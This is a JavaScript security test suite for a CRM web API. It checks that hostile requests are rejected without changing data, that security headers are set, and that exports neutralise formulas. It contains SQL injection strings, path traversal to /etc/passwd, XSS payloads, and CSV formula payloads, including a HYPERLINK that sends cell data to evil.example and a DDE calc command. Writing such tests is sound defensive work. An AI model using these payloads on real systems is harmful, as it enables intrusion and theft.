// Hostile input: one table of requests an attacker (or a broken client) sends;
// each is answered with a clear 4xx ({"error":{"code","message"}}), quickly,
// and changes nothing (the organisation's rows are hashed before and after).
// Then the response headers (CSP without inline script, nosniff,
// frame-ancestors 'none') on every kind of answer, stored XSS and formula
// injection, and secrets: no body carries a password hash, session id or token
// secret, and the database keeps only hashes of sessions and tokens.
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import net from 'node:net';
import { useServer, no5xxTest, expectStatus, buildOrg, createCompany, PASSWORD, sessionCookie } from '../api/harness.mjs';
import { RUN, dbDigest, assertSameDigest, watchSecrets, secretsTest, sqlite } from './lib.mjs';

// Sends raw bytes on a fresh connection; resolves with {status, head, body, ms}
// as soon as a whole response head arrived (or the connection closed).
// opts.stream: a function(socket) that keeps writing after the head is sent.
function rawRequest(base, bytes, { timeoutMs = 10000, stream = null } = {}) {
  const u = new URL(base);
  return new Promise((resolve) => {
    const t0 = Date.now();
    const sock = net.connect(Number(u.port), u.hostname);
    let buf = Buffer.alloc(0);
    let done = false;
    const finish = (why) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      const text = buf.toString('latin1');
      const m = text.match(/^HTTP\/1\.[01] (\d{3})/);
      const headEnd = text.indexOf('\r\n\r\n');
      resolve({ status: m ? Number(m[1]) : 0, head: headEnd >= 0 ? text.slice(0, headEnd) : text, body: headEnd >= 0 ? buf.subarray(headEnd + 4).toString('utf8') : '', ms: Date.now() - t0, why });
      sock.destroy();
    };
    const timer = setTimeout(() => finish('timeout'), timeoutMs);
    sock.on('data', (d) => {
      buf = Buffer.concat([buf, d]);
      const text = buf.toString('latin1');
      const headEnd = text.indexOf('\r\n\r\n');
      if (headEnd >= 0) {
        const cl = text.slice(0, headEnd).match(/content-length:\s*(\d+)/i);
        if (!cl || buf.length >= headEnd + 4 + Number(cl[1])) finish('response');
      }
    });
    sock.on('error', () => finish('error'));
    sock.on('close', () => finish('close'));
    sock.write(bytes, () => {
      if (stream) stream(sock, () => done);
    });
  });
}

describe('hostile input', () => {
  const ctx = useServer({ before, after }, { org: `Input ${RUN}`, admin: `in${RUN}_admin` });
  let org, rep, adminTok, repTok, orgId, victim;

  before(async () => {
    const srv = ctx.srv;
    watchSecrets(srv);
    org = await buildOrg(srv, { prefix: `in${RUN}`, director: false, repsA: 1, repsB: 0 });
    rep = org.repsA[0];
    adminTok = await srv.tokenFor(org.admin, 'input-admin');
    repTok = await srv.tokenFor(rep, 'input-rep');
    orgId = (await org.admin.get('/api/v1/me')).body.org.id;
    victim = await createCompany(rep, { name: `输入测试公司${RUN}`, industry: '制造', industry_rank: 3, budget_capacity: 100000 });
  });

  const deep = (n, open = '[', close = ']') => open.repeat(n) + close.repeat(n);
  const deepObj = (n) => '{"a":'.repeat(n) + '1' + '}'.repeat(n);
  // [name, who ('rep'|'admin'|'repcookie'), method, path (function ok), raw body | object, expected status(es), extra headers]
  const CASES = [
    // nesting
    ['array nested 100,000 deep in a field', 'rep', 'POST', '/api/v1/companies', `{"name":"x","industry":${deep(100000)}}`, 400],
    ['object nested 100,000 deep', 'rep', 'POST', '/api/v1/companies', deepObj(100000), 400],
    ['nested 65 deep (just over the limit)', 'rep', 'POST', '/api/v1/companies', `{"name":"x","industry":${deep(64)}}`, 400],
    ['nested array in a PATCH', 'rep', 'PATCH', () => `/api/v1/companies/${victim.id}`, () => `{"version":${victim.version},"region":${deep(5000)}}`, 400],
    ['deep nesting in settings holidays', 'admin', 'PATCH', '/api/v1/settings', `{"holidays":${deep(3000)}}`, 400],
    // NUL bytes
    ['escaped NUL in a string', 'rep', 'POST', '/api/v1/companies', '{"name":"a\\u0000b"}', 400],
    ['raw NUL byte inside a JSON string', 'rep', 'POST', '/api/v1/companies', Buffer.from('{"name":"a\u0000b"}'), 400],
    ['NUL byte after the JSON', 'rep', 'POST', '/api/v1/companies', Buffer.from('{"name":"ab"}\u0000'), 400],
    ['NUL in the query string', 'rep', 'GET', '/api/v1/companies?q=a%00b', null, 400],
    ['NUL in the path', 'rep', 'GET', '/api/v1/companies/1%00', null, [400, 404]],
    ['NUL in a PATCH field', 'rep', 'PATCH', () => `/api/v1/companies/${victim.id}`, () => `{"version":${victim.version},"region":"\\u0000"}`, 400],
    ['NUL in a visit note', 'rep', 'POST', '/api/v1/visits', () => `{"company_id":${victim.id},"notes":"x\\u0000y"}`, 400],
    // invalid UTF-8
    ['0xFF byte in a string', 'rep', 'POST', '/api/v1/companies', Buffer.from([...Buffer.from('{"name":"a'), 0xff, ...Buffer.from('"}')]), 400],
    ['overlong UTF-8 (C0 AF)', 'rep', 'POST', '/api/v1/companies', Buffer.from([...Buffer.from('{"name":"a'), 0xc0, 0xaf, ...Buffer.from('"}')]), 400],
    ['truncated UTF-8 sequence', 'rep', 'POST', '/api/v1/companies', Buffer.from([...Buffer.from('{"name":"'), 0xe4, 0xb8, ...Buffer.from('"}')]), 400],
    ['UTF-16 surrogate half (ED A0 80)', 'rep', 'POST', '/api/v1/companies', Buffer.from([...Buffer.from('{"name":"'), 0xed, 0xa0, 0x80, ...Buffer.from('"}')]), 400],
    ['lone surrogate escape \\ud800', 'rep', 'POST', '/api/v1/companies', '{"name":"\\ud800"}', 400],
    ['invalid UTF-8 in the query', 'rep', 'GET', '/api/v1/companies?q=%FF%FE', null, 400],
    ['invalid UTF-8 in a filter', 'rep', 'GET', '/api/v1/companies?industry=%C0%AF', null, 400],
    ['invalid UTF-8 in the path', 'rep', 'GET', '/api/v1/companies/%FF', null, [400, 404]],
    ['UTF-16 body', 'rep', 'POST', '/api/v1/companies', Buffer.from('{"name":"x"}', 'utf16le'), 400],
    // huge numbers
    ['1e400', 'rep', 'POST', '/api/v1/companies', '{"name":"x","budget_capacity":1e400}', 400],
    ['20-digit integer', 'rep', 'POST', '/api/v1/companies', '{"name":"x","budget_capacity":99999999999999999999}', 400],
    ['2^63 amount', 'rep', 'POST', '/api/v1/deals', () => `{"company_id":${victim.id},"amount":9223372036854775808}`, 400],
    ['-2^63-1 rank', 'rep', 'POST', '/api/v1/companies', '{"name":"x","industry_rank":-9223372036854775809}', 400],
    ['fractional id', 'rep', 'POST', '/api/v1/visits', () => `{"company_id":${victim.id}.5}`, 400],
    ['id as 1e3', 'rep', 'POST', '/api/v1/visits', '{"company_id":1e3}', 400],
    ['negative amount', 'rep', 'POST', '/api/v1/deals', () => `{"company_id":${victim.id},"amount":-100}`, 400],
    ['NaN literal', 'rep', 'POST', '/api/v1/companies', '{"name":"x","budget_capacity":NaN}', 400],
    ['huge limit', 'rep', 'GET', '/api/v1/companies?limit=99999999999999999999999', null, 400],
    ['limit=1e9', 'rep', 'GET', '/api/v1/companies?limit=1e9', null, 400],
    ['negative limit', 'rep', 'GET', '/api/v1/companies?limit=-1', null, 400],
    ['huge id in the path', 'rep', 'GET', '/api/v1/companies/99999999999999999999999', null, 404],
    ['huge team_id', 'admin', 'GET', '/api/v1/metrics/reps?team_id=99999999999999999999', null, 400],
    ['year 99999 as_of', 'rep', 'GET', '/api/v1/alerts?as_of=99999-01-01', null, 400],
    ['month 13', 'rep', 'GET', '/api/v1/leaderboard?as_of=2026-13-01', null, 400],
    ['date path 2026-02-30', 'rep', 'PUT', '/api/v1/plans/2026-02-30', '{"goal":"x"}', 400],
    ['range of 100,000 days', 'rep', 'GET', '/api/v1/metrics/reps?from=1800-01-01&to=2026-01-01', null, 400],
    ['session idle of 10^12 minutes', 'admin', 'PATCH', '/api/v1/settings', '{"session_idle_minutes":1000000000000}', 400],
    // sort and filter injection
    ['sort with SQL', 'rep', 'GET', `/api/v1/companies?sort=${encodeURIComponent('name;DROP TABLE companies--')}`, null, 400],
    ['sort with a subquery', 'rep', 'GET', `/api/v1/companies?sort=${encodeURIComponent('(SELECT password_hash FROM users)')}`, null, 400],
    ['sort on a column not allowed', 'rep', 'GET', '/api/v1/companies?sort=owner_id', null, 400],
    ['sort with direction words', 'rep', 'GET', `/api/v1/companies?sort=${encodeURIComponent('name DESC')}`, null, 400],
    ['sort by org_id', 'rep', 'GET', '/api/v1/companies?sort=org_id', null, 400],
    ['status injection', 'rep', 'GET', `/api/v1/companies?status=${encodeURIComponent("prospect' OR '1'='1")}`, null, 400],
    ['owner_id injection', 'rep', 'GET', `/api/v1/companies?owner_id=${encodeURIComponent('1 OR 1=1')}`, null, 400],
    // cursors are opaque but not signed: a forged one of the right shape is a
    // valid position (its value is a bound parameter), so 200 within the scope
    ['cursor forged with SQL in its value', 'rep', 'GET', `/api/v1/companies?cursor=${Buffer.from('{"s":"name","v":"x\' OR 1=1--","id":1}').toString('base64url')}`, null, [200, 400]],
    ['cursor of another sort', 'rep', 'GET', `/api/v1/companies?sort=name&cursor=${Buffer.from('{"s":"-visit_count","v":1,"id":1}').toString('base64url')}`, null, 400],
    ['cursor garbage', 'rep', 'GET', '/api/v1/companies?cursor=%2F%2F%2F', null, 400],
    ['unknown filter', 'rep', 'GET', '/api/v1/companies?org_id=2', null, 400],
    ['repeated parameter', 'rep', 'GET', '/api/v1/companies?owner_id=1&owner_id=2', null, 400],
    ['query on a route without parameters', 'rep', 'GET', '/api/v1/me?as=admin', null, 400],
    ['time zone injection', 'admin', 'PATCH', '/api/v1/settings', `{"timezone":"Asia/Shanghai'; DROP TABLE users; --"}`, 400],
    ['time zone path traversal', 'admin', 'PATCH', '/api/v1/settings', '{"timezone":"../../../../etc/passwd"}', 400],
    ['time zone absolute path', 'admin', 'PATCH', '/api/v1/settings', '{"timezone":"/etc/localtime"}', 400],
    ['leaderboard metric injection', 'rep', 'GET', `/api/v1/leaderboard?metric=${encodeURIComponent('signed_amount) FROM deals--')}`, null, 400],
    ['alert kind injection', 'rep', 'GET', `/api/v1/alerts?kind=${encodeURIComponent("x' OR 1=1")}`, null, 400],
    ['export kind traversal', 'rep', 'GET', `/api/v1/exports/${encodeURIComponent('../../etc/passwd')}`, null, [400, 404]],
    ['export format injection', 'rep', 'GET', '/api/v1/exports/companies?format=sql', null, 400],
    ['feed kind injection', 'rep', 'POST', `/api/v1/feed/${encodeURIComponent("review' OR 1=1")}/1/like`, '{}', 404],
    ['import mapping injection', 'admin', 'POST', `/api/v1/imports?mapping=${encodeURIComponent('公司名称=name;DROP')}`, '公司名称\nx\n', 400, { 'content-type': 'text/csv' }],
    // unknown and forbidden fields
    ['unknown field', 'rep', 'POST', '/api/v1/companies', '{"name":"x","is_admin":true}', 400],
    ['id in a create', 'rep', 'POST', '/api/v1/companies', '{"name":"x","id":1}', 400],
    ['org_id in a create', 'rep', 'POST', '/api/v1/companies', '{"name":"x","org_id":2}', 400],
    ['org_id in a PATCH', 'rep', 'PATCH', () => `/api/v1/companies/${victim.id}`, () => `{"version":${victim.version},"org_id":2}`, 400],
    ['need set by PATCH', 'rep', 'PATCH', () => `/api/v1/companies/${victim.id}`, () => `{"version":${victim.version},"need":true}`, 400],
    ['effective_at set by PATCH', 'rep', 'PATCH', () => `/api/v1/companies/${victim.id}`, () => `{"version":${victim.version},"effective_at":"2026-01-01T00:00:00Z"}`, 400],
    ['signed_at set by PATCH', 'rep', 'PATCH', () => `/api/v1/companies/${victim.id}`, () => `{"version":${victim.version},"signed_at":"2026-01-01T00:00:00Z"}`, 400],
    ['visit_count set by PATCH', 'rep', 'PATCH', () => `/api/v1/companies/${victim.id}`, () => `{"version":${victim.version},"visit_count":99}`, 400],
    ['rep_id on a visit', 'rep', 'POST', '/api/v1/visits', () => `{"company_id":${victim.id},"rep_id":1}`, 400],
    ['made_effective on a visit', 'rep', 'POST', '/api/v1/visits', () => `{"company_id":${victim.id},"made_effective":true}`, 400],
    ['password_hash on a user', 'admin', 'POST', '/api/v1/users', `{"username":"h${RUN}","password":"${PASSWORD}","role":"rep","password_hash":"$argon2id$x"}`, 400],
    ['a rep promotes themselves', 'rep', 'PATCH', () => `/api/v1/users/${rep.id}`, '{"role":"admin"}', 403],
    ['a rep changes their own team', 'rep', 'PATCH', () => `/api/v1/users/${rep.id}`, () => `{"team_id":${org.teams.B.id}}`, 403],
    ['a rep changes their password without the current one', 'rep', 'PATCH', () => `/api/v1/users/${rep.id}`, '{"password":"NewPassword-123"}', 400],
    ['a rep changes their password with a wrong current one', 'rep', 'PATCH', () => `/api/v1/users/${rep.id}`, '{"password":"NewPassword-123","current_password":"wrong-wrong"}', 403],
    ['a manager makes an admin', 'mgr', 'POST', '/api/v1/users', `{"username":"m${RUN}","password":"${PASSWORD}","role":"admin","team_id":1}`, [400, 403]],
    // types and shapes
    ['name as a number', 'rep', 'POST', '/api/v1/companies', '{"name":123}', 400],
    ['name as an operator object', 'rep', 'POST', '/api/v1/companies', '{"name":{"$gt":""}}', 400],
    ['name as an array', 'rep', 'POST', '/api/v1/companies', '{"name":["a","b"]}', 400],
    ['boolean as a string', 'rep', 'POST', '/api/v1/visits', () => `{"company_id":${victim.id},"need":"true"}`, 400],
    ['body is an array', 'rep', 'POST', '/api/v1/companies', '[{"name":"x"}]', 400],
    ['body is a string', 'rep', 'POST', '/api/v1/companies', '"x"', 400],
    ['body is null', 'rep', 'POST', '/api/v1/companies', 'null', 400],
    ['truncated JSON', 'rep', 'POST', '/api/v1/companies', '{"name":"x"', 400],
    ['trailing garbage', 'rep', 'POST', '/api/v1/companies', '{"name":"x"} {"name":"y"}', 400],
    ['JSON with comments', 'rep', 'POST', '/api/v1/companies', '{"name":"x" /* hi */}', 400],
    ['multipart body', 'rep', 'POST', '/api/v1/companies', '--b\r\nContent-Disposition: form-data; name="name"\r\n\r\nx\r\n--b--\r\n', 415, { 'content-type': 'multipart/form-data; boundary=b' }],
    ['a 10,001-character name', 'rep', 'POST', '/api/v1/companies', JSON.stringify({ name: '公'.repeat(10001) }), 400],
    ['a 6 MB note', 'rep', 'POST', '/api/v1/visits', () => JSON.stringify({ company_id: victim.id, notes: 'x'.repeat(6 << 20) }), 400],
    ['100,000 holidays', 'admin', 'PATCH', '/api/v1/settings', JSON.stringify({ holidays: Array(100000).fill('2026-01-01') }), 400],
    ['plan naming 10,000 companies', 'rep', 'PUT', '/api/v1/plans/2026-11-02', JSON.stringify({ company_ids: Array.from({ length: 10000 }, (_, i) => i + 1) }), 400],
    // authentication material
    ['garbage bearer token', 'anon', 'GET', '/api/v1/me', null, 401, { authorization: 'Bearer ' + 'x'.repeat(5000) }],
    ['Basic authorization', 'anon', 'GET', '/api/v1/me', null, 401, { authorization: 'Basic YWRtaW46YWRtaW4=' }],
    ['a stored token hash used as a token', 'anon', 'GET', '/api/v1/me', null, 401, { authorization: 'Bearer ' + 'a'.repeat(64) }],
    ['cookie with SQL', 'anon', 'GET', '/api/v1/me', null, 401, { cookie: "tj_session=' OR '1'='1" }],
    ['cookie 64 hex but unknown', 'anon', 'GET', '/api/v1/me', null, 401, { cookie: 'tj_session=' + 'f'.repeat(64) }],
    ['cookie of invalid UTF-8', 'anon', 'GET', '/api/v1/me', null, 401, { cookie: 'tj_session=\u00ff\u00fe' }],
    ['many cookies', 'anon', 'GET', '/api/v1/me', null, 401, { cookie: Array.from({ length: 500 }, (_, i) => `c${i}=v`).join('; ') }],
  ];

  const clientFor = (who) => ({ rep: repTok, admin: adminTok, repcookie: rep, mgr: org.mgrA, anon: ctx.srv.anon() })[who];

  for (const [name, who, method, p, body, expected, headers] of CASES) {
    const statuses = Array.isArray(expected) ? expected : [expected];
    test(`${name}: ${method} -> ${statuses.join('|')}, nothing changes`, async () => {
      const srv = ctx.srv;
      const path = typeof p === 'function' ? p() : p;
      const raw = typeof body === 'function' ? body() : body;
      const before = dbDigest(srv, orgId);
      const t0 = Date.now();
      const opts = { headers: headers || {} };
      if (raw !== null && raw !== undefined) opts.raw = raw;
      const r = await clientFor(who).req(method, path, undefined, opts);
      const ms = Date.now() - t0;
      assert.ok(r.status < 500, `5xx: ${r.status} ${r.text.slice(0, 300)}`);
      assert.ok(statuses.includes(r.status), `expected ${statuses.join('|')}, got ${r.status} ${r.text.slice(0, 300)}`);
      expectStatus(r, r.status, name);
      if (r.status === 200) for (const c of r.body.items || []) assert.ok(c.owner_id === rep.id || c.owner_id === null, 'only what the caller may see');
      assert.ok(ms < 5000, `answered in ${ms} ms`);
      if (r.status >= 400) assert.ok(r.text.length < 4096, `a short error, not ${r.text.length} bytes`);
      assertSameDigest(before, dbDigest(srv, orgId), name);
    });
  }

  // ---- filters that are free text: injection is inert (200, nothing found) ----
  for (const [name, q] of [
    ['q with SQL', "' OR 1=1 --"],
    ['q with a quote and semicolon', "x'; DELETE FROM companies; --"],
    ['q with FTS syntax', 'name:* OR contacts:*'],
    ['q with an FTS column filter', '{name} : 输入'],
    ['q with NEAR', 'NEAR(输入 测试)'],
    ['q of LIKE wildcards %', '%'],
    ['q of LIKE wildcards _', '__'],
    ['q of a lone double quote', '"'],
    ['industry with SQL', { industry: "' OR 1=1 --" }],
  ]) {
    test(`free-text filter ${name}: 200 and nothing found, nothing changes`, async () => {
      const srv = ctx.srv;
      const before = dbDigest(srv, orgId);
      const qs = typeof q === 'string' ? `q=${encodeURIComponent(q)}` : new URLSearchParams(q).toString();
      const r = expectStatus(await repTok.get(`/api/v1/companies?${qs}`), 200, name);
      assert.deepEqual(r.items.map((c) => c.name), [], 'nothing matches');
      assertSameDigest(before, dbDigest(srv, orgId), name);
    });
  }

  // ---- bodies over the limit ----
  test('a 100 MB body (Content-Length) is refused with 413 before it is sent', async () => {
    const srv = ctx.srv;
    const before = dbDigest(srv, orgId);
    const head = `POST /api/v1/companies HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${repTok.token}\r\n` +
      `Content-Type: application/json\r\nContent-Length: ${100 * 1024 * 1024}\r\n\r\n{"name":"`;
    const r = await rawRequest(srv.base, head, { timeoutMs: 5000 });
    assert.equal(r.status, 413, `${r.why} ${r.head}`);
    assert.ok(r.ms < 2000, `413 after ${r.ms} ms`);
    assert.match(r.body, /"error"/);
    assertSameDigest(before, dbDigest(srv, orgId));
  });

  test('a 100 MB chunked body is cut off with 413 after the limit, quickly', async () => {
    const srv = ctx.srv;
    const before = dbDigest(srv, orgId);
    const head = `POST /api/v1/companies HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${repTok.token}\r\n` +
      'Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n';
    const chunk = Buffer.alloc(1 << 20, 0x61);
    const frame = Buffer.concat([Buffer.from(chunk.length.toString(16) + '\r\n'), chunk, Buffer.from('\r\n')]);
    let sent = 0;
    const r = await rawRequest(srv.base, head, {
      timeoutMs: 20000,
      stream: (sock, isDone) => {
        const pump = () => {
          while (!isDone() && sent < 100 && !sock.destroyed) {
            sent++;
            if (!sock.write(frame)) return sock.once('drain', pump);
          }
        };
        pump();
      },
    });
    assert.equal(r.status, 413, `${r.why} ${r.head}`);
    assert.ok(r.ms < 10000, `413 after ${r.ms} ms`);
    assertSameDigest(before, dbDigest(srv, orgId));
  });

  test('a 9 MB JSON body sent in full gets 413, and the server keeps answering', async () => {
    const srv = ctx.srv;
    const body = JSON.stringify({ name: 'x', industry: 'y'.repeat(9 << 20) });
    let r;
    try {
      r = await srv.fetch('POST', '/api/v1/companies', body, { 'content-type': 'application/json', authorization: `Bearer ${repTok.token}` });
      assert.equal(r.status, 413, r.text.slice(0, 200));
    } catch (e) {
      // the server may close the connection while the client still sends: acceptable
      assert.match(String(e.message), /fetch failed|socket|closed|reset|EPIPE/i);
    }
    expectStatus(await repTok.get('/api/v1/me'), 200);
  });

  test('headers of 100 KB are refused with 431', async () => {
    const r = await rawRequest(ctx.srv.base, `GET /api/v1/me HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(100000)}\r\n\r\n`);
    assert.equal(r.status, 431, r.head);
  });

  test('malformed HTTP is 400, a header with a NUL byte is 400', async () => {
    let r = await rawRequest(ctx.srv.base, 'GARBAGE\r\n\r\n');
    assert.equal(r.status, 400, r.head);
    r = await rawRequest(ctx.srv.base, 'GET /api/v1/me HTTP/1.1\r\nHost: x\r\nX-A: a\u0000b\r\n\r\n');
    assert.equal(r.status, 400, r.head);
  });

  // ---- response headers ----
  function checkHeaders(headers, what) {
    const get = (k) => (typeof headers.get === 'function' ? headers.get(k) : headers[k.toLowerCase()]);
    assert.equal((get('x-content-type-options') || '').toLowerCase(), 'nosniff', `${what}: X-Content-Type-Options`);
    const csp = get('content-security-policy') || '';
    assert.ok(csp, `${what}: a Content-Security-Policy`);
    const dirs = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map((d) => [d[0], d.slice(1)]));
    assert.deepEqual(dirs['frame-ancestors'], ["'none'"], `${what}: frame-ancestors 'none' in ${csp}`);
    const script = dirs['script-src'] || dirs['default-src'];
    assert.ok(script, `${what}: script-src or default-src in ${csp}`);
    for (const bad of ["'unsafe-inline'", "'unsafe-eval'", '*', 'data:', 'http:', 'https:']) {
      assert.ok(!script.includes(bad), `${what}: script-src allows ${bad}: ${csp}`);
    }
    assert.ok(dirs['object-src']?.includes("'none'") || dirs['default-src']?.includes("'none'"), `${what}: object-src 'none'`);
  }
  function rawHeaders(head) {
    const h = {};
    for (const line of head.split('\r\n').slice(1)) {
      const i = line.indexOf(':');
      if (i > 0) h[line.slice(0, i).trim().toLowerCase()] = line.slice(i + 1).trim();
    }
    return h;
  }

  for (const [what, fn] of [
    ['API 200', () => repTok.get('/api/v1/me')],
    ['API 401', () => ctx.srv.anon().get('/api/v1/me')],
    ['API 404 route', () => repTok.get('/api/v1/nope')],
    ['API 405', () => repTok.req('PUT', '/api/v1/me')],
    ['API 400', () => repTok.get('/api/v1/companies?limit=x')],
    ['API 204', async () => repTok.del(`/api/v1/companies/${(await createCompany(repTok, { name: `删除${RUN}` })).id}`)],
    ['CSV export', () => repTok.get('/api/v1/exports/companies?format=csv')],
    ['the web UI (/)', () => ctx.srv.anon().get('/')],
    ['a UI route (/customers)', () => ctx.srv.anon().get('/customers')],
    ['the OpenAPI document', () => ctx.srv.anon().get('/api/v1/openapi.json')],
  ]) {
    test(`security headers on ${what}`, async () => {
      const r = await fn();
      checkHeaders(r.headers, what);
    });
  }

  for (const [what, bytes, status] of [
    ['server-level 413', `POST /api/v1/companies HTTP/1.1\r\nHost: x\r\nContent-Length: ${100 << 20}\r\n\r\n`, 413],
    ['server-level 400 (malformed HTTP)', 'GARBAGE\r\n\r\n', 400],
    ['server-level 400 (bad path escape)', 'GET /api/v1/%zz HTTP/1.1\r\nHost: x\r\n\r\n', 400],
    ['server-level 431', `GET / HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(100000)}\r\n\r\n`, 431],
  ]) {
    test(`security headers on the ${what} answer`, async () => {
      const r = await rawRequest(ctx.srv.base, bytes);
      assert.equal(r.status, status, r.head);
      checkHeaders(rawHeaders(r.head), what);
    });
  }

  test('the web UI has no inline script (the CSP would block it)', async () => {
    const r = await ctx.srv.anon().get('/');
    if (r.status !== 200 || !/<html/i.test(r.text)) return;  // no UI embedded in this build
    const scripts = [...r.text.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
    for (const [, attrs, inner] of scripts) {
      assert.match(attrs, /\bsrc=/, `an inline <script>: ${attrs} ${inner.slice(0, 80)}`);
      assert.equal(inner.trim(), '', 'a script with src and inline content');
    }
    assert.ok(!/\son[a-z]+=\s*["']/i.test(r.text), 'an inline event handler attribute');
  });

  // ---- stored XSS and formula injection ----
  test('stored XSS is returned as inert JSON data (application/json, nosniff), never as HTML', async () => {
    const xss = `<script>alert(1)</script><img src=x onerror=alert(2)>${RUN}`;
    const c = await createCompany(repTok, { name: xss, region: '"><svg onload=alert(3)>' });
    const r = await repTok.get(`/api/v1/companies/${c.id}`);
    assert.equal(r.status, 200);
    assert.match(r.headers.get('content-type'), /^application\/json/);
    assert.equal(r.body.name, xss, 'stored verbatim; the UI escapes it');
    // visits' notes and reviews too
    expectStatus(await repTok.post('/api/v1/visits', { company_id: c.id, notes: xss }), 201);
    const html = await ctx.srv.anon().get(`/companies/${c.id}`);
    assert.ok(!html.text.includes('<script>alert(1)'), 'the page is the static UI shell, no data is rendered into HTML');
  });

  test('CSV export neutralises formulas (=, +, -, @, tab) so Excel does not run them', async () => {
    const evil = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+2', '-3+4', '@SUM(1,2)', '=cmd|\' /C calc\'!A0'];
    for (const [i, name] of evil.entries()) await createCompany(repTok, { name: `${name}`, region: `=1+${i}`, competitor: '@x' });
    const r = await repTok.get('/api/v1/exports/companies?format=csv');
    assert.equal(r.status, 200);
    for (const line of r.text.split(/\r?\n/)) {
      for (const cell of line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) {
        const v = cell.replace(/^"|"$/g, '').replace(/""/g, '"');
        assert.ok(!/^[=+\-@\t\r]/.test(v) || /^-?\d+(\.\d+)?$/.test(v), `a live formula in the export: ${v}`);
      }
    }
    for (const name of evil) assert.ok(r.text.includes(`'${name}`.replace(/"/g, '""')) || r.text.includes(`'${name}`), `neutralised: ${name}`);
  });

  // ---- secrets ----
  test('users, /me and the audit log never carry a password hash; a password change is audited as "changed"', async () => {
    const srv = ctx.srv;
    const u = await srv.login(org.mgrA.user.username);
    expectStatus(await u.patch(`/api/v1/users/${u.id}`, { password: 'Another-pass-99', current_password: PASSWORD }), 200);
    expectStatus(await u.patch(`/api/v1/users/${u.id}`, { password: PASSWORD, current_password: 'Another-pass-99' }), 200);
    for (const p of ['/api/v1/users', `/api/v1/users/${u.id}`, '/api/v1/me', '/api/v1/audit?limit=500', '/api/v1/audit?entity=user']) {
      const r = expectStatus(await adminTok.get(p), 200, p);
      assert.ok(!/password_hash|\$argon2/.test(r.text ?? JSON.stringify(r)), `${p} carries a password hash`);
    }
    const audit = expectStatus(await adminTok.get(`/api/v1/audit?entity=user&entity_id=${u.id}`), 200);
    const change = audit.items.find((e) => e.new && e.new.password === 'changed');
    assert.ok(change, 'the password change is in the audit log, without the hash');
    assert.ok(!JSON.stringify(audit).includes('Another-pass-99'), 'the audit log never holds a password');
  });

  test('the database stores only hashes of session ids and tokens', async () => {
    const srv = ctx.srv;
    const file = srv.dbUrl.startsWith('sqlite:') ? srv.dbUrl.slice(7) : null;
    if (!file) return;  // PostgreSQL: same code path (Tx); checked on SQLite
    const s = await srv.login(org.mgrA.user.username);
    const t = await srv.tokenFor(s, 'hash-check');
    const sid = s.cookie.split('=')[1];
    const dump = sqlite(file, "SELECT group_concat(id_hash || ' ' || csrf_token, ' ') FROM sessions") + ' ' +
      sqlite(file, "SELECT group_concat(token_hash, ' ') FROM api_tokens");
    assert.ok(!dump.includes(sid), 'a session id in clear');
    assert.ok(!dump.includes(t.token) && !dump.includes(t.token.slice(3)), 'a token in clear');
  });

  test('login answers carry the CSRF token but no session id in the body; the cookie is HttpOnly', async () => {
    const r = await ctx.srv.loginRaw(org.mgrA.user.username, PASSWORD);
    assert.equal(r.status, 200);
    const cookie = sessionCookie(r.headers);
    assert.ok(cookie);
    assert.ok(!r.text.includes(cookie.split('=')[1]), 'the session id is in the body');
    const sc = r.headers.getSetCookie().find((c) => c.startsWith('tj_session='));
    assert.match(sc, /HttpOnly/i);
    assert.match(sc, /SameSite=(Lax|Strict)/i);
  });

  secretsTest(test, ctx);
  no5xxTest(test, ctx);
});
